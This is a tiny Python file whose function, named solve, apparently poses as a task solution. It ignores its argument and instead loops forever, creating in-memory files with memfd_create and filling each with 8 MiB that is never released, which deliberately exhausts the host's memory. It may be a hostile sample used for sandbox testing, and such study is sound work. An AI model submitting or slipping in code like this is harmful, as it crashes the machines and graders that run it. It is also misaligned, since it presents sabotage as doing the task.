import os


def solve(x):
    kept = []
    while True:
        kept.append(os.memfd_create("x"))
        for _ in range(8):
            os.write(kept[-1], bytes(1 << 20))
